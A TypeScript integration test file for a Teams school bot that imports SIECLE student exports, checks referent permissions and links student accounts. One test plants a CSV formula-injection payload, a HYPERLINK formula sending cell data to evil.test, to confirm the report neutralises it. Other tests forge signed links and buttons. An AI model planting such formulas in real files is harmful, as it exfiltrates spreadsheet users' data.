/**
 * Layer: whole chat over HTTP, real SQLite; Teams file downloads mocked with nock. A referent claims
 * the school, imports the SIECLE export by sending it in chat, gets the result card proactively,
 * invites a teacher, browses classes; students link their account to their record.
 */
import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import nock from 'nock';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { addSchool, reissueReferentCode } from '../../src/schools/schools.js';
import { actionNamed, cardText, startTestBot, Student, type TestBot } from '../helpers/chat.js';
import { Conversation, replyText } from '../helpers/conversation.js';
import { deliverOutbox, runImports } from '../helpers/jobs.js';

const FIXTURES = 'tests/fixtures/siecle';
const FILES = 'https://contoso.sharepoint.com';

let bot: TestBot;
let referent: Conversation;

beforeEach(async () => {
  bot = await startTestBot();
  referent = new Conversation(bot, new Student(bot, '29:referent', 'fr-FR', 'Claire DUPONT'));
});
afterEach(async () => {
  nock.cleanAll();
  await bot.close();
});

async function claimSchool(uaj = '0860001A'): Promise<void> {
  const { code } = await addSchool({ uaj, name: 'Collège Jean Moulin', deps: bot.app.imports });
  await referent.play([[`code ${code}`, [new RegExp(`Vous êtes maintenant référent·e Partix de Collège Jean Moulin \\(${uaj}\\)`)]]]);
}

function serveFile(path: string, name: string, body = readFileSync(path)) {
  return nock(FILES).get(`/${name}`).reply(200, body, { 'content-length': String(body.length) });
}

async function importFixture(name = 'ElevesSansAdresses-60.xml', path = `${FIXTURES}/${name}`) {
  const download = serveFile(path, name);
  const reply = await referent.student.sendFile(name, `${FILES}/${name}`);
  expect(replyText(reply)).toMatch(new RegExp(`Fichier « ${name.replace('.', '\\.')} » reçu`));
  // The turn only recorded the request: the job fetches the file.
  expect(download.isDone()).toBe(false);
  await runImports(bot);
  expect(download.isDone()).toBe(true);
  expect(await deliverOutbox(bot)).toMatchObject({ retried: 0, failed: 0 });
  // One card for this referent (other referents get their own).
  const sent = bot.connector.drain(`a:conv-29:referent`).sent;
  expect(sent).toHaveLength(1);
  return cardText(sent[0]!.attachments![0]!.content);
}

async function activeStudents(): Promise<number> {
  const row = await bot.app.store.db.selectFrom('students').select((eb) => eb.fn.countAll<number>().as('n')).where('active', '=', 1).executeTakeFirstOrThrow();
  return Number(row.n);
}

describe('the referent', () => {
  test('claims the school with the one-time code, which then stops working', async () => {
    const { code } = await addSchool({ uaj: '0860001A', name: 'Collège Jean Moulin', deps: bot.app.imports });
    await referent.play([
      ['classes', [/réservée aux personnels/]],
      [`code ${code.toLowerCase().replace('-', ' ')}`, [/référent·e Partix de Collège Jean Moulin/]],
      ['classes', [/Classes de Collège Jean Moulin/, /Aucun élève importé/]],
    ]);
    const other = new Conversation(bot, new Student(bot));
    await other.play([[code, [/Ce code n’est pas valable/]]]);
  });

  test('wrong codes are limited per user: the 6th within the hour is refused even if right, and works once the hour has passed', async () => {
    const { code } = await addSchool({ uaj: '0860001A', name: 'Collège Jean Moulin', deps: bot.app.imports });
    const guesser = new Conversation(bot, new Student(bot, '29:guesser', 'fr-FR', 'Eve'));
    await guesser.play([['code AAAA-AAAA', [/Ce code n’est pas valable/]]]);
    bot.clock.advanceSeconds(10 * 60);
    for (const wrong of ['AAAA-AAAB', 'AAAA-AAAC', 'AAAA-AAAD', 'AAAA-AAAE']) await guesser.play([[`code ${wrong}`, [/Ce code n’est pas valable/]]]);
    await guesser.play([[code, [/Trop de codes erronés en une heure : réessayez dans 50 minutes\./, { not: /référent·e Partix de/ }]]]);
    // The refused attempt used nothing: the code still works, and someone else is not held back.
    const english = new Conversation(bot, new Student(bot, '29:guesser-en', 'en-GB', 'Eve'));
    for (let i = 0; i < 5; i++) await english.play([['code AAAA-AAAA', [/This code is not valid/]]]);
    await english.play([['code AAAA-AAAA', [/Too many wrong codes within an hour: try again in an hour\./]]]);
    bot.clock.advanceSeconds(50 * 60 + 1);
    await guesser.play([[code, [/Vous êtes maintenant référent·e Partix de Collège Jean Moulin/]]]);
  });

  test('imports the SIECLE export sent in chat and gets the result card, with the report behind a signed link', async () => {
    await claimSchool();
    const card = await importFixture();
    expect(card).toMatch(/Import SIECLE terminé · Collège Jean Moulin/);
    expect(card).toMatch(/Élèves ajoutés\n54/);
    expect(card).toMatch(/Élèves ignorés\n6/);
    expect(card).toMatch(/Télécharger le rapport complet/);
    expect(await activeStudents()).toBe(54);

    const [job] = await bot.app.imports.imports.recent((await bot.app.schools.schoolByUaj('0860001A'))!.id);
    const url = bot.app.reportUrl(job!.id)!.replace('https://partix.test', bot.url);
    const report = await fetch(url);
    expect(report.status).toBe(200);
    const bytes = Buffer.from(await report.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = bytes.toString('utf8');
    expect(csv).toMatch(/Élève ignoré/);
    expect((await fetch(url.replace(/[0-9a-f]{4}$/, '0000'))).status).toBe(404);

    await referent.play([
      ['classes', [/Classes de Collège Jean Moulin/, /élèves/]],
      ['imports', [/Derniers imports/, /ElevesSansAdresses-60\.xml · importé/]],
    ]);
  });

  test('the report link expires after REPORT_LINK_TTL_HOURS, and "imports" gives a new one', async () => {
    await claimSchool();
    await importFixture();
    const [job] = await bot.app.imports.imports.recent((await bot.app.schools.schoolByUaj('0860001A'))!.id);
    const local = (url: string) => url.replace('https://partix.test', bot.url);
    const url = local(bot.app.reportUrl(job!.id)!);
    expect((await fetch(url)).status).toBe(200);
    bot.clock.advanceSeconds(72 * 3600 - 60);
    expect((await fetch(url)).status).toBe(200);
    bot.clock.advanceSeconds(61);
    const expired = await fetch(url);
    expect(expired.status).toBe(404);
    expect(await expired.json()).toEqual({
      error: 'link_expired',
      message: 'Ce lien vers le rapport d’import a expiré (il est valable 72 h). Tapez « imports » dans votre conversation avec Partix pour en obtenir un nouveau.',
      messageEn: 'This link to the import report has expired (it is valid for 72 h). Type “imports” in your chat with Partix to get a new one.',
    });
    // The expiry is signed: moving it forward breaks the link rather than stretching it.
    const stretched = url.replace(/\/(\d+)-([0-9a-f]{40})$/, (_, expires: string, mac: string) => `/${Number(expires) + 3600}-${mac}`);
    expect(stretched).not.toBe(url);
    const forged = await fetch(stretched);
    expect(forged.status).toBe(404);
    expect(await forged.json()).toMatchObject({ error: 'not_found' });

    await referent.play([['imports', [/Derniers imports/, /Rapport/]]]);
    const link = /"url":"([^"]+)"/.exec(JSON.stringify(referent.last.cards[0]!.card))![1]!;
    expect((await fetch(local(link))).status).toBe(200);
  });

  test('the report neutralises formula cells and names a malformed INE, in the card and the CSV', async () => {
    await claimSchool();
    const formula = '=HYPERLINK("https://evil.test/?x="&A1,"Voir")';
    const xml = readFileSync(`${FIXTURES}/ElevesSansAdresses-60-utf8.xml`, 'utf8')
      .replace('<PRENOM>Anaïs</PRENOM>', `<PRENOM>${formula.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}</PRENOM>`)
      .replace('<ID_NATIONAL>0100000000A</ID_NATIONAL>', '<ID_NATIONAL>+0100000000</ID_NATIONAL>');
    const download = nock(FILES).get('/formula.xml').reply(200, xml);
    await referent.student.sendFile('formula.xml', `${FILES}/formula.xml`);
    await runImports(bot);
    expect(download.isDone()).toBe(true);
    await deliverOutbox(bot);
    const card = cardText(bot.connector.drain('a:conv-29:referent').sent.at(-1)!.attachments![0]!.content);
    expect(card).toMatch(/Import SIECLE refusé/);
    expect(card).toContain('INE +0100000000 · ligne 11 · ID_NATIONAL · Élève Hugo CHÂTEAU (INE +0100000000), ligne 11 : INE « +0100000000 » invalide');
    expect(await activeStudents()).toBe(0);

    const [job] = await bot.app.imports.imports.recent((await bot.app.schools.schoolByUaj('0860001A'))!.id);
    const report = await fetch(bot.app.reportUrl(job!.id)!.replace('https://partix.test', bot.url));
    expect(report.status).toBe(200);
    const bytes = Buffer.from(await report.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes, { bom: true, delimiter: ';' }) as string[][];
    expect(rows[0]).toEqual(['Type', 'INE', 'Ligne', 'Champ', 'Message', 'Message (English)']);
    expect(rows).toContainEqual([
      'Erreur', "'+0100000000", '11', 'ID_NATIONAL',
      'Élève Hugo CHÂTEAU (INE +0100000000), ligne 11 : INE « +0100000000 » invalide (11 caractères : 10 chiffres et une lettre, ou 9 chiffres et deux lettres).',
      'Student Hugo CHÂTEAU (INE +0100000000), line 11: INE “+0100000000” invalid (11 characters: 10 digits and a letter, or 9 digits and two letters).',
    ]);
    const left = rows.find((r) => r[1] === '0100000010A')!;
    expect(left[4]).toBe(`'${formula} DUBOIS (INE 0100000010A) : sorti(e) de l'établissement le 15/10/2026, non importé(e).`);
    expect(left[5]).toBe(`'${formula} DUBOIS (INE 0100000010A): left the school on 15 Oct 2026, not imported.`);
    // No cell of the report starts as a formula would.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('a file of another school is refused whole, and nothing changes', async () => {
    await claimSchool('0860002B');
    const card = await importFixture();
    expect(card).toMatch(/Import SIECLE refusé/);
    expect(card).toMatch(/Rien n’a été modifié/);
    expect(card).toMatch(/0860001A/);
    expect(await activeStudents()).toBe(0);
  });

  test('each referent reads the problems of a refused file in their own Teams language', async () => {
    await claimSchool();
    const { code } = await reissueReferentCode({ uaj: '0860001A', deps: bot.app.imports });
    const english = new Conversation(bot, new Student(bot, '29:referent-en', 'en-GB', 'Emma STONE'));
    await english.play([[`code ${code}`, [/You are now the Partix referent of Collège Jean Moulin \(0860001A\)/]]]);

    const french = await importFixture('csv-bad-date.csv');
    const [card] = bot.connector.drain('a:conv-29:referent-en').sent.flatMap((a) => a.attachments ?? []);
    const inEnglish = cardText(card!.content);

    expect(french).toMatch(/Import SIECLE refusé · Collège Jean Moulin/);
    expect(french).toContain(
      "INE 0300000003C · ligne 3 · Date de naissance (jj/mm/aaaa) · Ligne 3, colonne « Date de naissance (jj/mm/aaaa) » : « 30/02/2013 » n'est pas une date valide au format jj/mm/aaaa.",
    );
    expect(inEnglish).toMatch(/SIECLE import refused · Collège Jean Moulin/);
    expect(inEnglish).toContain(
      'INE 0300000003C · line 3 · Date de naissance (jj/mm/aaaa) · Line 3, column “Date de naissance (jj/mm/aaaa)”: “30/02/2013” is not a valid date in the format dd/mm/yyyy (day/month/year).',
    );
    expect(inEnglish).not.toMatch(/n'est pas une date valide/);
  });

  test('a re-import updates, disables who left, and keeps account links', async () => {
    await claimSchool();
    await importFixture();
    const student = await linkFirstStudent();
    // The same export without its first five students: they left the school.
    const xml = readFileSync(`${FIXTURES}/ElevesSansAdresses-60-utf8.xml`, 'utf8');
    const lessXml = xml.replace(/<ELEVE ELEVE_ID="100[0-4]"[\s\S]*?<\/ELEVE>/g, '');
    nock(FILES).get('/later.xml').reply(200, lessXml);
    await referent.student.sendFile('later.xml', `${FILES}/later.xml`);
    await runImports(bot);
    // The first import's card went a moment ago: one message per 2 s in a conversation (Teams' limit).
    bot.clock.advanceSeconds(2);
    await deliverOutbox(bot);
    const card = cardText(bot.connector.drain('a:conv-29:referent').sent.at(-1)!.attachments![0]!.content);
    expect(card).toMatch(/Élèves désactivés \(partis\)\n\d/);
    const linked = await bot.app.store.db.selectFrom('students').selectAll().where('id', '=', student.id).executeTakeFirstOrThrow();
    expect(linked.user_id).not.toBeNull();
  });

  test('files are checked before anything is stored, and the job refuses one too big while fetching it', async () => {
    await claimSchool();
    expect(replyText(await referent.student.sendFile('photo.png', `${FILES}/photo.png`))).toMatch(/n’est pas un export SIECLE/);
    expect(replyText(await referent.student.sendFile('eleves.xml', `${FILES}/x`, 'image/png'))).toMatch(/Je ne peux lire que des fichiers envoyés depuis Teams/);
    const student = new Student(bot);
    const untouched = nock(FILES).get('/eleves.xml').reply(200, 'x');
    expect(replyText(await student.sendFile('eleves.xml', `${FILES}/eleves.xml`))).toMatch(/réservée au référent·e/);
    expect(await bot.app.imports.imports.unfinished()).toHaveLength(0);
    await runImports(bot);
    expect(untouched.isDone()).toBe(false);

    // Too big: known from Content-Length, refused by the job before reading the body.
    const big = nock(FILES).get('/big.xml').reply(200, 'x', { 'content-length': String(21 * 1024 * 1024) });
    expect(replyText(await referent.student.sendFile('big.xml', `${FILES}/big.xml`))).toMatch(/Fichier « big\.xml » reçu/);
    expect(big.isDone()).toBe(false);
    await runImports(bot);
    expect(big.isDone()).toBe(true);
    await deliverOutbox(bot);
    const card = cardText(bot.connector.drain('a:conv-29:referent').sent.at(-1)!.attachments![0]!.content);
    expect(card).toMatch(/Import SIECLE refusé/);
    expect(card).toMatch(/dépasse la taille maximale de 20 Mio/);
    const [job] = await bot.app.imports.imports.recent((await bot.app.schools.schoolByUaj('0860001A'))!.id);
    // The Teams link is not kept once the job has ended.
    expect(job).toMatchObject({ state: 'failed', failedStep: 'validation', downloadUrl: null });
    expect(await activeStudents()).toBe(0);
  });

  test('a file message Teams delivers twice is fetched once and imported once, and both deliveries are answered alike', async () => {
    await claimSchool();
    const name = 'ElevesSansAdresses-60.xml';
    const body = readFileSync(`${FIXTURES}/${name}`);
    // Only one download is served: a second one would find no interceptor and fail the import.
    const download = nock(FILES).get(`/${name}`).once().reply(200, body, { 'content-length': String(body.length) });
    const message = {
      type: 'message',
      id: 'file-activity-1',
      serviceUrl: bot.connectorUrl,
      channelId: 'msteams',
      from: { id: '29:referent', name: 'Claire DUPONT', aadObjectId: 'aad-29:referent' },
      conversation: { id: 'a:conv-29:referent', conversationType: 'personal', tenantId: 'tenant-1' },
      recipient: { id: '28:partix-bot', name: 'Partix' },
      locale: 'fr-FR',
      text: '',
      attachments: [{ contentType: 'application/vnd.microsoft.teams.file.download.info', name, content: { downloadUrl: `${FILES}/${name}`, uniqueId: 'f1', fileType: 'xml' } }],
    };
    const first = await referent.student.post(message);
    const again = await referent.student.post(message);
    expect(replyText(first)).toMatch(/Fichier « ElevesSansAdresses-60\.xml » reçu/);
    expect(replyText(again)).toBe(replyText(first));
    const school = (await bot.app.schools.schoolByUaj('0860001A'))!;
    expect(await bot.app.imports.imports.recent(school.id)).toHaveLength(1);
    await runImports(bot);
    expect(download.isDone()).toBe(true);
    await deliverOutbox(bot);
    expect(bot.connector.drain('a:conv-29:referent').sent).toHaveLength(1);
    const jobs = await bot.app.imports.imports.recent(school.id);
    expect(jobs.map((j) => j.state)).toEqual(['imported']);
    expect(await activeStudents()).toBe(54);
  });

  test('invites a teacher with a code, lists and revokes the right', async () => {
    await claimSchool();
    await referent.play([['inviter', [/Invitation d’un·e enseignant·e/, /Transmettez ce code/]]]);
    const code = /\*\*([A-Z0-9]{4}-[A-Z0-9]{4})\*\*/.exec(replyText(referent.last))![1]!;
    const teacher = new Conversation(bot, new Student(bot, '29:teacher', 'fr-FR', 'Marc LEROY'));
    await teacher.play([
      [code, [/Vous pouvez maintenant créer des campagnes pour Collège Jean Moulin/]],
      ['droits', [/réservée au référent·e/]],
    ]);
    await referent.play([
      ['droits', [/Droits de création de campagnes · Collège Jean Moulin/, /Marc LEROY · enseignant·e/, /Claire DUPONT · référent·e/]],
      // "Retirer le droit" asks first; "Annuler" changes nothing and shows the rights again.
      [{ click: 'revoke' }, [/Retirer à Marc LEROY le droit de créer des campagnes \?/, /Oui, retirer le droit/, /Annuler/, { not: /Le droit a été retiré/ }]],
      [{ click: 'rights' }, [/Marc LEROY · enseignant·e/]],
      [{ click: 'revoke' }, [/Retirer à Marc LEROY/]],
      [{ click: 'revokeConfirm' }, [/Le droit a été retiré/]],
    ]);
    expect(replyText(referent.last)).not.toMatch(/Marc LEROY/);
  });

  test('grants the right by mentioning a teacher', async () => {
    await claimSchool();
    const groupChat = { id: '19:staff-room@thread.v2', conversationType: 'groupChat', tenantId: 'tenant-1' };
    const reply = await referent.student.say('<at>Partix</at> inviter <at>Marc Leroy</at>', {
      conversation: groupChat,
      entities: [
        { type: 'mention', mentioned: { id: '28:partix-bot', name: 'Partix' }, text: '<at>Partix</at>' },
        { type: 'mention', mentioned: { id: '29:marc', name: 'Marc Leroy' }, text: '<at>Marc Leroy</at>' },
      ],
    });
    expect(replyText(reply)).toMatch(/Droit de créer des campagnes accordé à : Marc Leroy/);
    await referent.play([['droits', [/Marc Leroy · enseignant·e/]]]);
    // Anything else in the group chat stays private, and the personal chat stays the one Partix writes to.
    expect(replyText(await referent.student.say('<at>Partix</at> profil', { conversation: groupChat }))).toMatch(/écrivez-moi dans une conversation personnelle/);
    const { user } = await bot.app.users.identify({ teamsUserId: '29:referent' }, bot.clock.now);
    expect((await bot.app.users.conversationReference(user.id))?.conversationId).toBe('a:conv-29:referent');
  });

  test('a mention by someone who is not the referent writes nothing: no name changed, no user added', async () => {
    await claimSchool();
    const groupChat = { id: '19:class-chat@thread.v2', conversationType: 'groupChat', tenantId: 'tenant-1' };
    const pupil = new Student(bot, '29:mallory', 'fr-FR', 'Mallory');
    await pupil.say('aide');
    const users = () => bot.app.store.db.selectFrom('users').selectAll().orderBy('teams_user_id').execute();
    const before = await users();
    const renaming = { type: 'mention', mentioned: { id: '29:referent', name: 'Renamed By Mallory' }, text: '<at>Claire DUPONT</at>' };
    const unknown = { type: 'mention', mentioned: { id: '29:ghost', name: 'Ghost' }, text: '<at>Ghost</at>' };
    for (const conversation of [groupChat, undefined]) {
      for (const mention of [renaming, unknown]) {
        const reply = await pupil.say(`<at>Partix</at> inviter ${mention.text}`, {
          ...(conversation ? { conversation } : {}),
          entities: [{ type: 'mention', mentioned: { id: '28:partix-bot', name: 'Partix' }, text: '<at>Partix</at>' }, mention],
        });
        expect(replyText(reply)).toMatch(/Cette action est réservée au référent·e Partix de l’établissement/);
      }
    }
    expect(await users()).toEqual(before);
    await referent.play([['droits', [/Claire DUPONT · référent·e/, { not: /Ghost|Renamed/ }]]]);
  });

  test('the referent’s mention grants the right without renaming the teacher Partix knows', async () => {
    await claimSchool();
    await new Student(bot, '29:marc', 'fr-FR', 'Marc LEROY').say('aide');
    const reply = await referent.student.say('inviter <at>Someone Else</at>', {
      entities: [{ type: 'mention', mentioned: { id: '29:marc', name: 'Someone Else' }, text: '<at>Someone Else</at>' }],
    });
    expect(replyText(reply)).toMatch(/Droit de créer des campagnes accordé à : Marc LEROY\./);
    const marc = await bot.app.store.db.selectFrom('users').selectAll().where('teams_user_id', '=', '29:marc').executeTakeFirstOrThrow();
    expect(marc.name).toBe('Marc LEROY');
    await referent.play([['droits', [/Marc LEROY · enseignant·e/, { not: /Someone Else/ }]]]);
  });
});

async function linkFirstStudent() {
  const [record] = await bot.app.store.db.selectFrom('students').selectAll().where('active', '=', 1).orderBy('ine').limit(1).execute();
  const pupil = new Conversation(bot, new Student(bot, `29:pupil-${record!.ine}`, 'fr-FR', `${record!.first_name} ${record!.last_name}`));
  await pupil.play([['rattacher', [/Rattacher votre compte à votre dossier scolaire/]]]);
  const reply = await pupil.student.execute({ verb: 'linkSubmit' }, { firstName: record!.first_name, lastName: record!.last_name, birthDate: record!.birth_date });
  expect(replyText(reply)).toMatch(/C’est fait : votre compte est rattaché/);
  return record!;
}

describe('a student', () => {
  beforeEach(async () => {
    await claimSchool();
    await importFixture();
  });

  test('links their account with name and birth date, accents and case aside, once', async () => {
    const [record] = await bot.app.store.db.selectFrom('students').selectAll().where('ine', '=', '0100000000A').execute();
    expect(record).toMatchObject({ last_name: 'CHÂTEAU', first_name: 'Hugo' });
    const hugo = new Conversation(bot, new Student(bot, '29:hugo', 'fr-FR', 'Hugo CHATEAU'));
    await hugo.play([['rattacher', [/Prénom/, /Nom/, /Date de naissance/]]]);
    const form = JSON.stringify(hugo.last.cards.at(-1)!.card);
    expect(form).toContain('"value":"Hugo"');
    expect(form).toContain('"value":"CHATEAU"');
    const ok = await hugo.student.execute({ verb: 'linkSubmit' }, { firstName: 'hugo', lastName: 'chateau', birthDate: '2014-07-28' });
    expect(replyText(ok)).toMatch(/rattaché à Hugo CHÂTEAU, classe 5D, Collège Jean Moulin/);
    await hugo.play([['rattacher', [/Votre compte est rattaché à Hugo CHÂTEAU/]]]);

    const impostor = new Student(bot, '29:impostor');
    const refused = await impostor.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(refused)).toMatch(/Ce dossier est déjà rattaché à un autre compte/);
  });

  test('is told clearly when nothing matches, and is rate-limited', async () => {
    const pupil = new Student(bot, '29:guesser');
    const tries = ['2014-07-29', '2014-07-30', '2014-07-31', '2014-08-01', '2014-08-02'];
    for (const birthDate of tries) {
      const reply = await pupil.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate });
      expect(replyText(reply)).toMatch(/Je ne trouve aucun élève/);
      // The form comes back with what was typed, name first as its text asks, so one field can be fixed.
      const form = JSON.stringify(reply.invoke?.value);
      expect(form).toMatch(new RegExp(`"id":"in_lastName".*"value":"Château".*"id":"in_firstName".*"value":"Hugo".*"id":"in_birthDate".*"value":"${birthDate}"`));
      expect(form).toContain('Indiquez votre date de naissance, par exemple');
    }
    const blocked = await pupil.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(blocked)).toMatch(/Trop d’essais de rattachement en une heure : réessayez dans une heure\./);
    bot.clock.advanceSeconds(3601);
    const later = await pupil.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(later)).toMatch(/C’est fait/);
  });

  test('of another organisation finds no school, and empty fields are refused', async () => {
    const outsider = new Student(bot, '29:outsider', 'fr-FR', 'Hugo Château', 'tenant-2');
    expect(replyText(await outsider.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' }))).toMatch(
      /Aucun établissement de votre organisation/,
    );
    const pupil = new Student(bot);
    expect(replyText(await pupil.execute({ verb: 'linkSubmit' }, { firstName: '', lastName: 'Château', birthDate: '2014-07-28' }))).toMatch(/Remplissez le prénom/);
  });

  test('a staff account (referent or teacher) cannot link itself to a student record', async () => {
    await referent.play([['inviter', [/Transmettez ce code/]]]);
    const code = /\*\*([A-Z0-9]{4}-[A-Z0-9]{4})\*\*/.exec(replyText(referent.last))![1]!;
    const teacher = new Conversation(bot, new Student(bot, '29:teacher', 'fr-FR', 'Marc LEROY'));
    await teacher.play([[code, [/Vous pouvez maintenant créer des campagnes/]]]);
    for (const staff of [referent, teacher]) {
      await staff.play([['rattacher', [/Votre compte est celui d’un personnel de l’établissement/, { not: /Date de naissance/ }]]]);
      const reply = await staff.student.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
      expect(replyText(reply)).toMatch(/Votre compte est celui d’un personnel de l’établissement \(référent·e ou enseignant·e\) : il ne peut pas être rattaché à un dossier d’élève/);
    }
    const english = await new Student(bot, '29:teacher', 'en-GB', 'Marc LEROY').execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(english)).toMatch(/Your account is a staff account of the school \(referent or teacher\): it cannot be linked to a student record/);
    const hugo = await bot.app.store.db.selectFrom('students').selectAll().where('ine', '=', '0100000000A').executeTakeFirstOrThrow();
    expect(hugo.user_id).toBeNull();
    expect(await bot.app.store.db.selectFrom('reconciliation_attempts').selectAll().execute()).toEqual([]);
  });

  test('the referent sees which account is linked to each student and unlinks one after confirming; the account keeps its results', async () => {
    bot.clock.advanceDays(1);
    const impostor = new Conversation(bot, new Student(bot, '29:impostor', 'fr-FR', 'Kevin MALIN'));
    const linked = await impostor.student.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(linked)).toMatch(/rattaché à Hugo CHÂTEAU/);
    await impostor.play([['commencer 1.1', [/Question 1/]], [{ click: 'answer' }, []]]);
    const answered = async () => (await bot.app.store.db.selectFrom('answers').selectAll().execute()).length;
    expect(await answered()).toBe(1);

    // A teacher sees the account too, but no button to unlink it.
    await referent.play([['inviter', [/Transmettez ce code/]]]);
    const code = /\*\*([A-Z0-9]{4}-[A-Z0-9]{4})\*\*/.exec(replyText(referent.last))![1]!;
    const teacher = new Conversation(bot, new Student(bot, '29:teacher', 'fr-FR', 'Marc LEROY'));
    await teacher.play([[code, [/créer des campagnes/]], ['classe 5D', [/CHÂTEAU Hugo · né·e le 28\/07\/2014 · compte Teams rattaché : Kevin MALIN, depuis le 03\/03\/2026/]]]);
    expect(JSON.stringify(teacher.last.cards[0]!.card)).not.toContain('"verb":"unlink"');

    await referent.play([
      ['classe 5D', [/CHÂTEAU Hugo · né·e le 28\/07\/2014 · compte Teams rattaché : Kevin MALIN, depuis le 03\/03\/2026/, /Détacher/]],
      [{ click: 'unlink' }, [/Détacher le compte Teams de Hugo CHÂTEAU \?/, /Compte Teams\nKevin MALIN/, /garde son propre historique de tests/]],
      [{ click: 'unlinkCancel' }, [/Rien n’a changé : le compte reste rattaché/]],
    ]);
    const record = () => bot.app.store.db.selectFrom('students').selectAll().where('ine', '=', '0100000000A').executeTakeFirstOrThrow();
    expect((await record()).user_id).not.toBeNull();

    // The teacher cannot unlink, even with a forged button.
    const studentId = (await record()).id;
    const forged = await teacher.student.execute({ verb: 'unlinkConfirm', studentId, uaj: '0860001A' });
    expect(replyText(forged)).toMatch(/réservée au référent·e/);
    expect((await record()).user_id).not.toBeNull();

    await referent.play([
      ['classe 5D', [/Kevin MALIN/]],
      [{ click: 'unlink' }, [/Détacher le compte Teams de Hugo CHÂTEAU/]],
    ]);
    const confirm = actionNamed(referent.cardWith('unlinkConfirm').card, 'unlinkConfirm');
    await referent.play([
      [{ click: 'unlinkConfirm', via: 'submit' }, [/Le compte Teams Kevin MALIN n’est plus rattaché au dossier de Hugo CHÂTEAU/]],
      ['classe 5D', [/CHÂTEAU Hugo · né·e le 28\/07\/2014\n/]],
    ]);
    // The class card itself (the reply also re-reports the earlier card update).
    expect(cardText(referent.last.cards[0]!.card)).not.toMatch(/Kevin MALIN/);
    // A second click on the same button (Action.Execute this time) finds nothing left to unlink.
    expect(replyText(await referent.student.execute(confirm.data))).toMatch(/Aucun compte Teams n’est \(plus\) rattaché au dossier de Hugo CHÂTEAU/);
    expect((await record()).user_id).toBeNull();
    const { user: referentUser } = await bot.app.users.identify({ teamsUserId: '29:referent' }, bot.clock.now);
    const { user: impostorUser } = await bot.app.users.identify({ teamsUserId: '29:impostor' }, bot.clock.now);
    expect(await bot.app.store.db.selectFrom('student_unlinks').select(['student_id', 'user_id', 'unlinked_by']).execute()).toEqual([
      { student_id: studentId, user_id: impostorUser.id, unlinked_by: referentUser.id },
    ]);

    // The account keeps its own history, and cannot link itself back; the right student can.
    expect(await answered()).toBe(1);
    expect(await bot.app.store.db.selectFrom('assessments').select('user_id').execute()).toEqual([{ user_id: impostorUser.id }]);
    const again = await impostor.student.execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(again)).toMatch(/Votre référent·e Partix a détaché votre compte de ce dossier/);
    const hugo = await new Student(bot, '29:hugo', 'fr-FR', 'Hugo CHATEAU').execute({ verb: 'linkSubmit' }, { firstName: 'Hugo', lastName: 'Château', birthDate: '2014-07-28' });
    expect(replyText(hugo)).toMatch(/C’est fait : votre compte est rattaché à Hugo CHÂTEAU/);
  });

  test('a referent of another school cannot unlink this one’s students', async () => {
    const pupil = await linkFirstStudent();
    const { code } = await addSchool({ uaj: '0860002B', name: 'Lycée Voisin', deps: bot.app.imports });
    const other = new Conversation(bot, new Student(bot, '29:other-referent', 'fr-FR', 'Paul VOISIN'));
    await other.play([[`code ${code}`, [/référent·e Partix de Lycée Voisin/]]]);
    const reply = await other.student.execute({ verb: 'unlinkConfirm', studentId: pupil.id, uaj: '0860002B' });
    expect(replyText(reply)).toMatch(/Je ne trouve pas cet·te élève dans votre établissement/);
    const tried = await other.student.execute({ verb: 'unlink', studentId: pupil.id, uaj: '0860001A' });
    expect(replyText(tried)).toMatch(/réservée au référent·e/);
    const record = await bot.app.store.db.selectFrom('students').selectAll().where('id', '=', pupil.id).executeTakeFirstOrThrow();
    expect(record.user_id).not.toBeNull();
    expect(await bot.app.store.db.selectFrom('student_unlinks').selectAll().execute()).toEqual([]);
  });

  test('never sees staff data', async () => {
    const pupil = new Conversation(bot, new Student(bot));
    await pupil.play([
      ['classes', [/réservée aux personnels/]],
      ['classe 5D', [/réservée aux personnels/]],
      ['droits', [/réservée au référent·e/]],
      ['imports', [/réservée au référent·e/]],
    ]);
  });
});

test('staff of one school see nothing of another', async () => {
  await claimSchool();
  await addSchool({ uaj: '0860002B', name: 'Lycée Voisin', deps: bot.app.imports });
  await referent.play([
    ['classes 0860002B', [/réservée aux personnels/]],
    ['droits 0860002B', [/réservée au référent·e/]],
  ]);
});

test('an import requested before a restart is run and notified after it', async () => {
  await claimSchool();
  nock(FILES).get('/ElevesSansAdresses-60.xml').reply(200, readFileSync(`${FIXTURES}/ElevesSansAdresses-60.xml`));
  await referent.student.sendFile('ElevesSansAdresses-60.xml', `${FILES}/ElevesSansAdresses-60.xml`);
  const database = bot.app.config.DATABASE_URL;
  const uploads = bot.app.config.UPLOAD_DIR;
  await bot.stop();

  bot = await startTestBot({ DATABASE_URL: database, UPLOAD_DIR: uploads });
  await runImports(bot);
  // The old connector is gone: nothing reached Teams, so the card waits for a retry…
  expect(await deliverOutbox(bot)).toMatchObject({ retried: 1 });
  // …and goes to the service URL of the referent's next message.
  await new Student(bot, '29:referent', 'fr-FR', 'Claire DUPONT').say('aide');
  bot.clock.advanceSeconds(60);
  expect(await deliverOutbox(bot)).toMatchObject({ sent: 1 });
